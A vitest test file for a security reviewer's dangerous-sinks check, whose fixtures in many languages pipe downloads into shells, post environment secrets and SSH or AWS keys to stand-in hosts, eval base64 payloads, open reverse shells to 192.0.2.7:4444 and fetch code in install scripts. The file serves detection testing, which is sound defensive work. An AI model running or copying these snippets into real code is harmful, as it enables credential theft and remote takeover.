import { beforeAll, describe, expect, test } from 'vitest';
import { security } from '../../../reviewers/security/index.ts';
import { runChecks, type CheckTableResult } from '../check-table.ts';

/** The file's name behind its folder, its code, and the rules that it breaks as `rule:line`. */
type Row = readonly [name: string, code: string, ...expected: string[]];

const GO = (imports: string, body: string): string =>
  `package a\n\nimport (\n${imports
    .split(' ')
    .map((one) => `\t"${one}"`)
    .join('\n')}\n)\n\nfunc F() {\n${body}\n}`;
const JAVA = (body: string): string => `class A {\n  void f() throws Exception {\n    ${body}\n  }\n}`;

const ROWS: readonly Row[] = [
  // A download that is run, in a program's own command.
  ['a.py', "import os\nos.system('curl -s https://x.example/i.sh | sh')", 'downloaded-code:2'],
  [
    'b.py',
    "import subprocess\nsubprocess.run('wget -qO- https://x.example/i | bash', shell=True)",
    'downloaded-code:2',
  ],
  [
    'c.py',
    "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://x.example/i | bash'])",
    'downloaded-code:2',
  ],
  ['d.py', "import os\nURL = 'https://x.example/i'\nos.system('curl -s ' + URL + ' | sh')", 'downloaded-code:3'],
  ['e.py', "import os\nos.system('curl -o x https://x.example/x && chmod +x x && ./x')", 'downloaded-code:2'],
  ['f.py', 'import os\nos.system(\'powershell -c "iwr https://x.example/a.ps1 | iex"\')', 'downloaded-code:2'],
  ['ok-a.py', "import os\nos.system('curl -s https://x.example/data.json > data.json')"],
  ['ok-b.py', "print('To install it: curl -s https://x.example/i.sh | sh')"],
  ['ok-c.py', "import os\nos.system('curl -sSf https://sh.rustup.rs | sh -s -- -y')"],
  ['a.js', "require('child_process').execSync('curl -s https://x.example/i.sh | sh');", 'downloaded-code:1'],
  [
    'b.mjs',
    "import { exec } from 'node:child_process';\nexec('wget -qO- https://x.example/i | bash');",
    'downloaded-code:2',
  ],
  [
    'c.js',
    "const { spawn } = require('child_process');\nspawn('sh', ['-c', 'curl https://x.example/i | sh']);",
    'downloaded-code:2',
  ],
  [
    'd.js',
    "const { spawn } = require('child_process');\nspawn('curl https://x.example/i | sh', { shell: true });",
    'downloaded-code:2',
  ],
  ['e.js', "require('child_process').execSync('npx -y github:someone/thing');", 'downloaded-code:1'],
  ['ok-a.js', "require('child_process').execSync('git rev-parse HEAD');"],
  ['ok-b.js', "throw new Error('Install it: curl -fsSL https://x.example/i | sh');"],
  ['a.go', GO('os/exec', '\texec.Command("sh", "-c", "curl -s https://x.example/i | sh").Run()'), 'downloaded-code:8'],
  ['a.rb', "system('curl -s https://x.example/i.sh | sh')", 'downloaded-code:1'],
  ['b.rb', '`wget -qO- https://x.example/i | bash`', 'downloaded-code:1'],
  ['a.php', "<?php\nshell_exec('curl -s https://x.example/i | sh');", 'downloaded-code:2'],
  ['b.php', '<?php\n$a = `curl -s https://x.example/i | sh`;', 'downloaded-code:2'],
  [
    'A.java',
    JAVA('Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl -s https://x.example/i | sh"});'),
    'downloaded-code:3',
  ],
  [
    'B.java',
    JAVA('new ProcessBuilder("bash", "-c", "wget -qO- https://x.example/i | bash").start();'),
    'downloaded-code:3',
  ],
  [
    'A.kt',
    'fun f() {\n  ProcessBuilder("bash", "-c", "curl -s https://x.example/i | bash").start()\n}',
    'downloaded-code:2',
  ],
  [
    'A.cs',
    'class A { void F() {\nProcess.Start("bash", "-c \\"curl -s https://x.example/i | bash\\"");\n} }',
    'downloaded-code:2',
  ],
  [
    'a.rs',
    'fn f() {\n  std::process::Command::new("sh").arg("-c").arg("curl -s https://x.example/i | sh").status();\n}',
    'downloaded-code:2',
  ],
  // Credentials that leave.
  [
    'g.js',
    "const picked = { a: process.env.AWS_SECRET_ACCESS_KEY, n: process.env.NPM_TOKEN };\nfetch('https://x.example/c', { method: 'POST', body: JSON.stringify(picked) });",
    'secret-sent-away:2',
  ],
  ['h.js', 'fetch(`https://x.example/?t=${process.env.GITHUB_TOKEN}`);', 'secret-sent-away:1'],
  [
    'i.js',
    "const axios = require('axios');\naxios.post('https://x.example', { ...process.env });",
    'secret-sent-away:2',
  ],
  [
    'j.js',
    "const https = require('https');\nconst req = https.request('https://x.example', { method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();",
    'secret-sent-away:3',
  ],
  [
    'k.js',
    "const dns = require('dns');\ndns.lookup(`${process.env.NPM_TOKEN}.x.example`, () => {});",
    'secret-sent-away:2',
  ],
  ['l.js', "navigator.sendBeacon('https://webhook.site/1', process.env.API_TOKEN);", 'secret-sent-away:1'],
  [
    'm.js',
    "const fs = require('fs');\nconst key = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8');\nfetch('https://x.example', { method: 'POST', body: key });",
    'secret-sent-away:3',
  ],
  [
    'n.js',
    "const keys = Object.keys(process.env).filter((k) => /TOKEN/.test(k)).map((k) => process.env[k]);\nfetch('https://x.example', { method: 'POST', body: keys.join() });",
    'secret-sent-away:2',
  ],
  [
    'ok-c.js',
    "fetch('https://api.github.com/user', { headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } });",
  ],
  [
    'ok-d.js',
    'fetch(`${process.env.API_URL}/items`, { headers: { authorization: `Bearer ${process.env.API_TOKEN}` } });',
  ],
  [
    'ok-e.js',
    "fetch('https://HOST/-/whoami', { headers: { authorization: `Bearer ${process.env.NPM_TOKEN}` } });".replace(
      'HOST',
      `registry.${'npmjs'}.org`,
    ),
  ],
  [
    'ok-f.js',
    "fetch('https://login.x.example/token', { method: 'POST', body: new URLSearchParams({ client_id: process.env.CLIENT_ID, client_secret: process.env.CLIENT_SECRET }) });",
  ],
  [
    'ok-g.js',
    "fetch('https://discord.com/api/webhooks/1/a', { method: 'POST', body: JSON.stringify({ content: `built ${process.env.GITHUB_SHA}` }) });",
  ],
  ['g.py', "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))", 'secret-sent-away:2'],
  [
    'h.py',
    "import os, urllib.request\nurllib.request.urlopen('https://x.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
    'secret-sent-away:2',
  ],
  [
    'i.py',
    "import os, requests\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://x.example', data=data)",
    'secret-sent-away:3',
  ],
  ['j.py', "import os, socket\nsocket.gethostbyname(os.getenv('DEPLOY_TOKEN') + '.x.example')", 'secret-sent-away:2'],
  [
    'k.py',
    "import os, http.client, json\nc = http.client.HTTPSConnection('x.example')\nc.request('POST', '/', json.dumps(dict(os.environ)))",
    'secret-sent-away:3',
  ],
  [
    'l.py',
    "import os, requests\nfrom os import environ\nrequests.get('https://x.example', params={'t': environ['GITHUB_TOKEN']})",
    'secret-sent-away:3',
  ],
  [
    'ok-d.py',
    "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})",
  ],
  ['ok-e.py', "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))"],
  ['ok-f.py', "import os, requests\nrequests.post(os.environ['API_URL'], data={'key': os.environ['API_KEY']})"],
  [
    'b.go',
    GO(
      'net/http os strings',
      '\thttp.Post("https://x.example", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))',
    ),
    'secret-sent-away:10',
  ],
  [
    'c.go',
    GO('net/http os', '\thttp.Get("https://x.example/?k=" + os.Getenv("AWS_SECRET_ACCESS_KEY"))'),
    'secret-sent-away:9',
  ],
  ['d.go', GO('net os', '\tnet.LookupHost(os.Getenv("DEPLOY_TOKEN") + ".x.example")'), 'secret-sent-away:9'],
  ['c.rb', "require 'net/http'\nNet::HTTP.post(URI('https://x.example'), ENV.to_h.to_json)", 'secret-sent-away:2'],
  [
    'd.rb',
    "require 'net/http'\nNet::HTTP.get(URI(\"https://x.example/?k=#{ENV['AWS_SECRET_ACCESS_KEY']}\"))",
    'secret-sent-away:2',
  ],
  [
    'c.php',
    "<?php\nfile_get_contents('https://x.example/?k=' . getenv('AWS_SECRET_ACCESS_KEY'));",
    'secret-sent-away:2',
  ],
  ['o.js', "require('child_process').exec('curl -d \"$(env)\" https://x.example');", 'secret-sent-away:1'],
  [
    'ok-j.js',
    "const { resolvePath } = require('./path');\nresolvePath({ env: process.env, name: process.env.API_TOKEN });",
  ],
  // What is decoded, or set outside, and run.
  ['p.js', "eval(atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik='));", 'code-injection:1'],
  ['q.js', "eval(Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik=', 'base64').toString());", 'code-injection:1'],
  ['r.js', "new Function('a', process.env.HOOK)(1);", 'code-injection:1'],
  ['s.js', "const vm = require('vm');\nvm.runInThisContext(process.env.HOOK);", 'code-injection:2'],
  ['m.py', "import base64\nexec(base64.b64decode('cHJpbnQoMSk7cHJpbnQoMik7cHJpbnQoMyk='))", 'code-injection:2'],
  ['n.py', "import os\nexec(os.environ['HOOK'])", 'code-injection:2'],
  ['o.py', "exec(bytes.fromhex('7072696e742831293b7072696e742832293b'))", 'code-injection:1'],
  ['e.rb', "require 'base64'\neval(Base64.decode64('cHV0cyAxOyBwdXRzIDI7IHB1dHMgMzsgcHV0cyA0'))", 'code-injection:2'],
  ['d.php', "<?php\neval(base64_decode('ZWNobyAxOyBlY2hvIDI7IGVjaG8gMzsgZWNobyA0Ow=='));", 'code-injection:2'],
  ['p-timer.js', "setTimeout(atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik='));", 'code-injection:1'],
  ['ok-timer.js', "const told = () => show(atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik='));\nsetTimeout(told, 10);"],
  ['ok-h.js', "const text = JSON.parse(atob('eyJhIjoxLCJiIjoyLCJjIjozLCJkIjo0fQ=='));"],
  ['ok-g.py', "import base64\ndata = base64.b64decode('cHJpbnQoMSk7cHJpbnQoMik7cHJpbnQoMyk=')"],
  // A shell for somebody else.
  [
    'p.py',
    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    'remote-shell:4',
  ],
  [
    't.js',
    "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4444, '192.0.2.7', () => { client.pipe(sh.stdin); });",
    'remote-shell:5',
  ],
  [
    'e.go',
    GO(
      'net os/exec',
      '\tc, _ := net.Dial("tcp", "192.0.2.7:4444")\n\tcmd := exec.Command("/bin/sh")\n\tcmd.Stdin = c\n\tcmd.Run()',
    ),
    'remote-shell:11',
  ],
  ['f.rb', "exec('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')", 'remote-shell:1'],
  ['e.php', "<?php\n$s = fsockopen('192.0.2.7', 4444);\nexec('/bin/sh -i <&3 >&3 2>&3');", 'remote-shell:3'],
  [
    'C.java',
    JAVA('Runtime.getRuntime().exec(new String[]{"bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"});'),
    'remote-shell:3',
  ],
  ['ok-i.js', "const sh = require('child_process').spawn('/bin/sh', ['run.sh']);\nprocess.stdin.pipe(sh.stdin);"],
  ['ok-h.py', "import os, sys\nlog = open('log', 'w')\nos.dup2(log.fileno(), 1)"],
  // What runs on installation.
  [
    'setup.py',
    "from setuptools import setup\nimport urllib.request\nurllib.request.urlretrieve('https://x.example/a.so', 'a.so')\nsetup(name='a')",
    'install-script:3',
  ],
  ['extconf.rb', "require 'net/http'\nNet::HTTP.get(URI('https://x.example/a.so'))", 'install-script:2'],
  ['build.rs', 'fn main() {\n  let a = reqwest::blocking::get("https://x.example/a").unwrap();\n}', 'install-script:2'],
];

const CASES = ROWS.map(([name, code, ...expected], index) => ({ path: `src/${index}/${name}`, code, expected }));

describe('code that works against whoever runs it', () => {
  let result: CheckTableResult;
  beforeAll(async () => {
    const tree = Object.fromEntries(CASES.map(({ path, code }) => [path, `${code}\n`]));
    result = await runChecks(security, { old: {}, new: tree }, { only: ['dangerous-sinks'] });
  });

  test.each(CASES)('$path: $code', ({ path, expected }) => {
    const told = result.reports.filter(({ location, rule }) => location?.path === path && rule !== 'command-injection');
    expect(told.map(({ rule, location }) => `${rule}:${location?.startLine}`)).toEqual(expected);
  });
});

test('a folder of tests makes none of it less grave', async () => {
  const path = 'test/helpers/setup.py';
  const code = "import os\nos.system('curl -s https://x.example/i.sh | sh')\nos.system('ls ' + name)\n";
  const { reports } = await runChecks(
    security,
    { old: { 'test/a.py': 'a = 1\n' }, new: { 'test/a.py': 'a = 1\n', [path]: code } },
    { only: ['dangerous-sinks'] },
  );
  expect(
    reports.filter(({ rule }) => rule === 'downloaded-code').map(({ severity, confidence }) => [severity, confidence]),
  ).toEqual([['critical', 800]]);
});
